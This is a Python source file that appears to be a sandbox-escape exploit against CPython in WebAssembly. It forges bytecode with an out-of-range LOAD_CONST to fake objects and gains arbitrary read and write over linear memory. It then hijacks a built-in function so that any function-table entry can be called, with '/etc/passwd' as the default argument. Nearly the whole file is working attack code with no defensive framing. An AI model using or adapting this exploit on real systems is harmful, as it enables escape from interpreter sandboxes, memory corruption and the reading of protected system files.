"""A read and write primitive over the whole linear memory, as anybody can build one in CPython: no import, no host function is needed for it.

Bytecode is not verified. LOAD_CONST with an index that lies outside of the constants loads a pointer from wherever that is: from bytes of the
script's own, which name an object whose struct is bytes of the script's own as well.
"""

import dis
import struct
import types

_kept = []


def address_of(data: bytes) -> int:
    """Where the bytes lie."""
    _kept.append(data)
    return id(data) + bytes.__basicsize__ - 1


def object_at(address: int) -> object:
    """Whatever is at the address, as an object."""
    constants = (object(),)
    _kept.append(constants)
    index = (address_of(struct.pack("<I", address)) - id(constants) - tuple.__basicsize__) // 4 & 0xFFFFFFFF
    op = dis.opmap
    prefix = [byte for shift in (24, 16, 8) for byte in (op["EXTENDED_ARG"], index >> shift & 255)]
    code = bytes([op["RESUME"], 0, *prefix, op["LOAD_CONST"], index & 255, op["RETURN_VALUE"], 0])
    made = (lambda: None).__code__.replace(co_code=code, co_consts=constants, co_linetable=b"", co_exceptiontable=b"")
    return types.FunctionType(made, {})()


def _forge_memory(start: int, length: int) -> bytearray:
    # PyByteArrayObject: references, type, size, allocated, bytes, start, exports.
    return object_at(address_of(struct.pack("<IIiiIIi", 1000, id(bytearray), length, length, start, start, 0)))


memory = _forge_memory(0, 0x7FFFFFFF)


def word(address: int) -> int:
    return int.from_bytes(memory[address : address + 4], "little")


def set_word(address: int, value: int) -> None:
    memory[address : address + 4] = (value & 0xFFFFFFFF).to_bytes(4, "little")


# Of the memory that the image has. An attacker who reads behind the end ends his run.
SIZE = 32 * 1024 * 1024


def find(pattern: bytes) -> list[int]:
    """Where the memory has the pattern, outside of the pattern itself."""
    own = address_of(pattern)
    view, found, at = _forge_memory(0, SIZE), [], 0
    while (at := view.find(pattern, at)) >= 0:
        if at != own:
            found.append(at)
        at += 1
    return found


def forge_function() -> "types.FunctionType":
    """A built-in function that calls any number of the function table with any first argument, and what it is given as the second."""
    import _cronium

    function = _cronium.seed
    # PyMethodDef: name, function, flags (METH_O), documentation.
    definition = address_of(struct.pack("<IIII", address_of(b"forged\0"), 0, 8, 0))
    # PyCFunctionObject: references, type, definition, self, module, weak references, vectorcall.
    set_word(id(function) + 8, definition)
    set_word(id(function) + 24, word(id(len) + 24))

    def call(number: int, self: int, argument: object = b"/etc/passwd\0") -> object:
        set_word(definition + 4, number)
        set_word(id(function) + 12, self)
        return function(argument)

    return call
